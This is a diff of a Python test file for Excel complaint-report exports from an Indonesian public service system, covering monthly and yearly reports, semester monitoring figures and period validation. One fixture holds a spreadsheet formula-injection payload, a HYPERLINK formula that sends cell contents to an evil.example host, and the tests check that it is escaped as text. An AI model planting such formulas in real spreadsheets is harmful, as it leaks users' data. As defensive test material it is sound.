@@ -11,7 +11,15 @@ import sqlalchemy as sa
 from openpyxl import load_workbook
 
 from tests.factories import make_user
-from zi_public.exports import REPORTS, UnknownReport, WrongPeriodKind, build_report, report_filename
+from zi_public.exports import (
+    REPORTS,
+    BadAsOf,
+    UnknownReport,
+    WrongPeriodKind,
+    build_report,
+    default_as_of,
+    report_filename,
+)
 from zi_public.exports.pengaduan_monev import TEXT_MAX, percentile, save_monev
 from zi_public.models import AuditEntry, Bidang, Pengaduan, PengaduanMonev, Role
 from zi_public.rules.pengaduan import Action, Channel, Status
@@ -26,6 +34,8 @@ JAKARTA = ZoneInfo("Asia/Jakarta")
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"Klik di sini")'
 NOVEMBER_TODAY = date(2026, 11, 30)
 SEMESTER_TODAY = date(2026, 12, 2)
+#: "Now" for the builds below: the scenario's dates lie around the real date the suite may run on.
+NOW = datetime(2027, 1, 15, 9, 0, tzinfo=JAKARTA)
 
 
 def wib(month: int, day: int, hour: int = 10, minute: int = 0) -> datetime:
@@ -104,23 +114,51 @@ def workbook(content: bytes):
     return load_workbook(io.BytesIO(content))
 
 
+def header_row(ws) -> int:
+    """The row of a sheet's column headers: the one frozen above the data (below a title block)."""
+    return int(ws.freeze_panes[1:]) - 1
+
+
+def header_of(ws) -> list[object]:
+    return [c.value for c in ws[header_row(ws)] if c.value is not None]
+
+
 def rows_of(ws) -> list[tuple[object, ...]]:
-    return list(ws.iter_rows(min_row=2, values_only=True))
+    """The table's data rows: from below the header to the first empty row (the signatures follow)."""
+    width = len(header_of(ws))
+    rows = []
+    for row in ws.iter_rows(min_row=header_row(ws) + 1, max_col=width, values_only=True):
+        if all(value is None for value in row):
+            break
+        rows.append(row)
+    return rows
+
+
+def report(name: str, period: str, as_of: date | None = None, **options):
+    """Build a report at NOW (unless `now` is given) and open it."""
+    options.setdefault("now", NOW)
+    return build_report(name, parse_period(period), as_of=as_of, **options)
+
+
+def table(ws) -> dict[object, dict[object, object]]:
+    """The table's rows as dicts by column header, keyed by the row's second value (the number)."""
+    header = header_of(ws)
+    return {row[1]: dict(zip(header, row, strict=True)) for row in rows_of(ws)}
 
 
 def test_the_monthly_report_lists_the_months_complaints_with_their_clocks(db, scenario):
-    export = build_report("pengaduan-bulanan", parse_period("2026-11"), today=NOVEMBER_TODAY)
+    export = report("pengaduan-bulanan", "2026-11", NOVEMBER_TODAY)
     wb = workbook(export.content)
     assert wb.sheetnames == ["Pengaduan November 2026", "Rekap"]
     ws = wb["Pengaduan November 2026"]
-    assert ws.freeze_panes == "A2" and ws.column_dimensions["H"].width == 40
-    header = [c.value for c in ws[1]]
-    rows = {row[1]: dict(zip(header, row, strict=True)) for row in rows_of(ws)}
+    assert ws.column_dimensions["H"].width == 24
+    rows = table(ws)
     numbers = [scenario[k].number for k in "AIBCD"]
     assert list(rows) == numbers and export.rows == 5  # received order; E (1 Dec) and F (31 Oct) left out
+    first = header_row(ws) + 1
 
     a = rows[scenario["A"].number]
-    assert a["Diterima"] == datetime(2026, 11, 2, 10, 0) and ws["C2"].is_date
+    assert a["Diterima"] == datetime(2026, 11, 2, 10, 0) and ws[f"C{first}"].is_date
     assert (a["Kanal"], a["Kategori"], a["Identitas pelapor"], a["Status"]) == (
         "Web",
         "Waktu penyelesaian",
@@ -129,10 +167,11 @@ def test_the_monthly_report_lists_the_months_complaints_with_their_clocks(db, sc
     )
     assert a["Layanan"] == "Persetujuan Bangunan Gedung (PBG)"
     assert a["Bidang"] == "Bidang Pelayanan Perizinan dan Non Perizinan B"
-    assert a["Judul"] == "'" + HOSTILE_TITLE and ws["H2"].data_type == "s"
+    assert a["Judul"] == "'" + HOSTILE_TITLE and ws[f"H{first}"].data_type == "s"
     assert a["Diverifikasi/ditelaah"] == datetime(2026, 11, 4) and a["Batas verifikasi"] == datetime(2026, 11, 5)
-    # The follow-up clock stops at the answer (9 Nov), not at the disposisi (5 Nov).
-    assert a["Ditindaklanjuti"] == datetime(2026, 11, 9) and a["Selesai"] == datetime(2026, 11, 10)
+    # The follow-up clock stops when the reporter is informed (the answer on 9 Nov), not at the disposisi.
+    assert a["Batas tindak lanjut"] == datetime(2026, 11, 11)
+    assert a["Pelapor diberi informasi"] == datetime(2026, 11, 9) and a["Selesai ditangani"] == datetime(2026, 11, 10)
     assert (a["Verifikasi tepat waktu"], a["Tindak lanjut tepat waktu"], a["Penyelesaian tepat waktu"]) == (
         "Ya",
         "Ya",
@@ -140,14 +179,16 @@ def test_the_monthly_report_lists_the_months_complaints_with_their_clocks(db, sc
     )
     assert a["Tindak lanjut (internal)"] == "06/11/2026: Koordinasi dengan bidang"
     assert a["Tanggapan kepada pelapor"] == "09/11/2026: @PBG terbit minggu ini."
-    assert a["Penilaian (1-4)"] == 4 and a["Ditutup"] is None
+    assert a["Penilaian (1-4)"] == 4 and a["Ditutup"] is None and a["Dibuka kembali"] == 0
 
     i, b, c, d = (rows[scenario[k].number] for k in "IBCD")
+    # I was forwarded before verification: the follow-up clock never started.
     assert (i["Verifikasi tepat waktu"], i["Tindak lanjut tepat waktu"], i["Penyelesaian tepat waktu"]) == (
         "Tidak",
         None,
         "Ya",
     )
+    assert i["Batas tindak lanjut"] is None and i["Pelapor diberi informasi"] is None
     assert i["Status"] == "Dialihkan" and i["Keterangan"] == "Dialihkan ke BPN Kota Magelang"
     # B: verified late, follow-up overdue on 30 Nov (due 16 Nov), settle clock still running.
     assert (b["Verifikasi tepat waktu"], b["Tindak lanjut tepat waktu"], b["Penyelesaian tepat waktu"]) == (
@@ -155,25 +196,23 @@ def test_the_monthly_report_lists_the_months_complaints_with_their_clocks(db, sc
         "Tidak",
         "Berjalan",
     )
-    assert b["Kanal"] == "Kios" and b["Identitas pelapor"] == "Anonim"
+    assert b["Kanal"] == "Kios" and b["Identitas pelapor"] == "Anonim" and b["Selesai ditangani"] is None
     assert c["Keterangan"] == "Ditolak: Bukan kewenangan kami" and c["Identitas pelapor"] == "Rahasia"
     assert d["Diterima"] == datetime(2026, 11, 30, 23, 30) and d["Verifikasi tepat waktu"] == "Berjalan"
 
 
 def test_the_monthly_report_holds_no_personal_data(db, scenario):
-    content = build_report("pengaduan-bulanan", parse_period("2026-11"), today=NOVEMBER_TODAY).content
-    wb = workbook(content)
+    wb = workbook(report("pengaduan-bulanan", "2026-11", NOVEMBER_TODAY).content)
     text = " ".join(str(v) for ws in wb for row in ws.iter_rows(values_only=True) for v in row if v is not None)
     for personal in ("Budi", "budi@example.id", "081234567890", "3371010101010001"):
         assert personal not in text
 
 
 def test_the_recap_counts_equal_the_inbox(db, scenario):
-    export = build_report("pengaduan-bulanan", parse_period("2026-11"), today=NOVEMBER_TODAY)
+    export = report("pengaduan-bulanan", "2026-11", NOVEMBER_TODAY)
     ws = workbook(export.content)["Rekap"]
-    header = [c.value for c in ws[1]]
-    assert header == [
-        "Kategori (status per 30/11/2026)",
+    assert header_of(ws) == [
+        "Kategori",
         "Baru",
         "Terverifikasi",
         "Ditindaklanjuti",
@@ -194,6 +233,7 @@ def test_the_recap_counts_equal_the_inbox(db, scenario):
         stmt = inbox_query(InboxFilter(month=date(2026, 11, 1), **filters), NOVEMBER_TODAY)
         return db.session.scalar(sa.select(sa.func.count()).select_from(stmt.subquery()))
 
+    # Nothing happened to November's complaints after 30 November: the recap is the inbox's today.
     assert recap["Jumlah"][-1] == inbox_count() == export.rows
     for position, status in enumerate(Status):
         assert recap["Jumlah"][position] == inbox_count(status=status), status
@@ -201,14 +241,35 @@ def test_the_recap_counts_equal_the_inbox(db, scenario):
 
 def test_an_empty_month_gives_headers_and_zero_totals(db):
     seed_reference_data()
-    export = build_report("pengaduan-bulanan", parse_period("2024-02"), today=NOVEMBER_TODAY)
+    export = report("pengaduan-bulanan", "2024-02")
     wb = workbook(export.content)
-    assert export.rows == 0 and wb["Pengaduan Februari 2024"].max_row == 1
+    assert export.rows == 0 and rows_of(wb["Pengaduan Februari 2024"]) == []
     assert rows_of(wb["Rekap"])[-1] == ("Jumlah", 0, 0, 0, 0, 0, 0, 0)
 
 
+def test_the_year_report_has_the_same_columns_and_a_recap_per_month(db, scenario):
+    month = workbook(report("pengaduan-bulanan", "2026-11", NOVEMBER_TODAY).content)
+    export = report("pengaduan-bulanan", "2026", SEMESTER_TODAY)
+    wb = workbook(export.content)
+    assert wb.sheetnames == ["Pengaduan 2026", "Rekap per bulan", "Rekap per kategori"]
+    assert header_of(wb["Pengaduan 2026"]) == header_of(month["Pengaduan November 2026"])
+    assert list(table(wb["Pengaduan 2026"])) == [scenario[k].number for k in "GHFAIBCDE"] and export.rows == 9
+    by_month = {row[0]: row[1:] for row in rows_of(wb["Rekap per bulan"])}
+    assert list(by_month) == [
+        "Januari 2026", "Februari 2026", "Maret 2026", "April 2026", "Mei 2026", "Juni 2026", "Juli 2026",
+        "Agustus 2026", "September 2026", "Oktober 2026", "November 2026", "Desember 2026", "Jumlah",
+    ]  # fmt: skip
+    # baru, terverifikasi, ditindaklanjuti, selesai, ditolak, dialihkan, total
+    assert by_month["Juli 2026"] == (0, 0, 0, 1, 0, 0, 1)
+    assert by_month["Agustus 2026"] == (0, 1, 0, 0, 0, 0, 1)
+    assert by_month["November 2026"] == (1, 1, 0, 1, 1, 1, 5)
+    assert by_month["Desember 2026"] == (1, 0, 0, 0, 0, 0, 1)
+    assert by_month["Jumlah"] == (2, 3, 0, 2, 1, 1, 9)
+    assert rows_of(wb["Rekap per kategori"])[-1] == ("Jumlah", 2, 3, 0, 2, 1, 1, 9)
+
+
 def test_the_semester_monev_figures(db, scenario):
-    export = build_report("pengaduan-monev", parse_period("2026-S2"), today=SEMESTER_TODAY)
+    export = report("pengaduan-monev", "2026-S2", SEMESTER_TODAY)
     wb = workbook(export.content)
     assert wb.sheetnames == [
         "Volume per bulan",
@@ -228,13 +289,14 @@ def test_the_semester_monev_figures(db, scenario):
     assert volume["November 2026"][7] == pytest.approx(2 / 3)
     assert volume["Desember 2026"] == (1, 0, 0, 0, 0, 1, 0, None)
     assert volume["Jumlah Semester II 2026"] == (9, 4, 2, 1, 1, 5, 3, 0.75)
-    assert wb["Volume per bulan"]["I2"].number_format == "0.0%"
+    ws = wb["Volume per bulan"]
+    assert ws.cell(header_row(ws) + 1, 9).number_format == "0.0%"
 
     durations = {row[0]: row[1:] for row in rows_of(wb["Waktu penanganan"])}
     # verify: G 0, F 1, C 1, A 2, H 3 (17 Aug is a holiday), B 4, I 4
     assert durations["Diterima sampai diverifikasi/ditelaah"] == (7, 2, 4)
     # verification to the reporter's first information: G 1, A 3 (answered 9 Nov; the disposisi does not count)
-    count, median, p90 = durations["Diverifikasi sampai ditindaklanjuti"]
+    count, median, p90 = durations["Diverifikasi sampai pelapor diberi informasi"]
     assert (count, median) == (2, 2) and p90 == pytest.approx(2.8)
     # finish: C 1, G 3, I 4, A 6 -> median 3.5, p90 4 + 0.7 * 2
     count, median, p90 = durations["Diterima sampai selesai ditangani"]
@@ -242,12 +304,8 @@ def test_the_semester_monev_figures(db, scenario):
 
     ratings = dict(rows_of(wb["Penilaian"]))
     assert ratings["Jumlah penilaian"] == 2 and ratings["Rata-rata (1-4)"] == 3
-    assert [ratings[f"Nilai {n}"] for n in ("1 (tidak puas)", "2 (kurang puas)", "3 (puas)", "4 (sangat puas)")] == [
-        0,
-        1,
-        0,
-        1,
-    ]
+    labels = ("1 (Tidak puas)", "2 (Kurang puas)", "3 (Puas)", "4 (Sangat puas)")
+    assert [ratings[f"Nilai {label}"] for label in labels] == [0, 1, 0, 1]
 
     open_rows = rows_of(wb["Belum selesai"])
     assert [row[0] for row in open_rows] == [scenario[k].number for k in "HFBDE"]
@@ -262,8 +320,21 @@ def test_the_semester_monev_figures(db, scenario):
     assert evaluation["Periode"] == "Semester II 2026" and evaluation["Evaluasi"] == "(belum diisi)"
 
 
+def test_the_year_monev_covers_twelve_months_and_both_semesters_texts(db, scenario):
+    team = make_user(role=Role.PENGADUAN)
+    save_monev(team, parse_period("2026-S2"), "Verifikasi lambat.", "Tambah piket.")
+    export = report("pengaduan-monev", "2026", SEMESTER_TODAY)
+    wb = workbook(export.content)
+    volume = {row[0]: row[1:] for row in rows_of(wb["Volume per bulan"])}
+    assert len(volume) == 13 and volume["Jumlah 2026"] == (9, 4, 2, 1, 1, 5, 3, 0.75)
+    evaluation = dict(rows_of(wb["Evaluasi dan rekomendasi"]))
+    assert evaluation["Semester I 2026: Evaluasi"] == "(belum diisi)"
+    assert evaluation["Semester II 2026: Evaluasi"] == "Verifikasi lambat."
+    assert evaluation["Semester II 2026: Rekomendasi"] == "Tambah piket."
+
+
 def test_the_monev_agrees_with_the_public_statistics_page(db, scenario):
-    wb = workbook(build_report("pengaduan-monev", parse_period("2026-S2"), today=SEMESTER_TODAY).content)
+    wb = workbook(report("pengaduan-monev", "2026-S2", now=datetime(2026, 12, 2, 12, tzinfo=JAKARTA)).content)
     total = rows_of(wb["Volume per bulan"])[-1]
     stats = statistik(year_period(2026)).total  # nothing was received in the first semester
     assert (total[1], total[2], total[7]) == (stats.received, stats.finished, stats.finished_on_time)
@@ -283,7 +354,7 @@ def test_the_monev_text_is_saved_audited_and_exported(db, scenario):
     entries = db.session.scalars(sa.select(AuditEntry).where(AuditEntry.action == "pengaduan.monev_update")).all()
     assert [(e.actor, e.target_id) for e in entries] == [("penulis", "2026-S2")] * 2
     save_monev(team, period, "=1+1 evaluasi", "Rekomendasi kedua.")
-    evaluation = dict(rows_of(workbook(build_report("pengaduan-monev", period).content)["Evaluasi dan rekomendasi"]))
+    evaluation = dict(rows_of(workbook(report("pengaduan-monev", "2026-S2").content)["Evaluasi dan rekomendasi"]))
     assert evaluation["Evaluasi"] == "'=1+1 evaluasi" and evaluation["Rekomendasi"] == "Rekomendasi kedua."
     assert isinstance(evaluation["Terakhir diperbarui"], datetime)
 
@@ -297,15 +368,34 @@ def test_the_monev_text_is_bounded_and_belongs_to_a_semester(db):
     assert db.session.get(PengaduanMonev, "2026-S2") is None
 
 
-def test_the_registry_refuses_unknown_names_and_wrong_period_kinds(db):
+def test_the_registry_refuses_unknown_names_wrong_period_kinds_and_impossible_days(db):
     assert set(REPORTS) == {"pengaduan-bulanan", "pengaduan-monev"}
     with pytest.raises(UnknownReport):
-        build_report("pengaduan-harian", parse_period("2026-11"))
+        report("pengaduan-harian", "2026-11")
     with pytest.raises(WrongPeriodKind):
-        build_report("pengaduan-bulanan", parse_period("2026-S2"))
+        report("pengaduan-bulanan", "2026-S2")
     with pytest.raises(WrongPeriodKind):
-        build_report("pengaduan-monev", parse_period("2026-11"))
+        report("pengaduan-monev", "2026-11")
+    with pytest.raises(WrongPeriodKind):
+        report("pengaduan-monev", "2026-Q3")
+    with pytest.raises(BadAsOf):  # a day that has not ended cannot have been recorded
+        report("pengaduan-bulanan", "2026-11", date(2026, 12, 1), now=datetime(2026, 11, 30, 12, tzinfo=JAKARTA))
+    with pytest.raises(BadAsOf):
+        report("pengaduan-bulanan", "2026-11", date(2026, 10, 31))
     assert report_filename("pengaduan-bulanan", parse_period("2026-11")) == "pengaduan-bulanan-2026-11.xlsx"
+
+
+@pytest.mark.parametrize(
+    ("period", "today", "expected"),
+    [
+        ("2026-11", date(2027, 1, 15), date(2026, 11, 30)),  # a past period: its last day
+        ("2026-11", date(2026, 11, 20), date(2026, 11, 20)),  # the running period: today
+        ("2026-S2", date(2026, 12, 2), date(2026, 12, 2)),
+        ("2026", date(2027, 3, 1), date(2026, 12, 31)),
+    ],
+)
+def test_a_report_is_as_of_the_periods_end_or_today(period, today, expected):
+    assert default_as_of(parse_period(period), today) == expected
 
 
 @pytest.mark.parametrize(
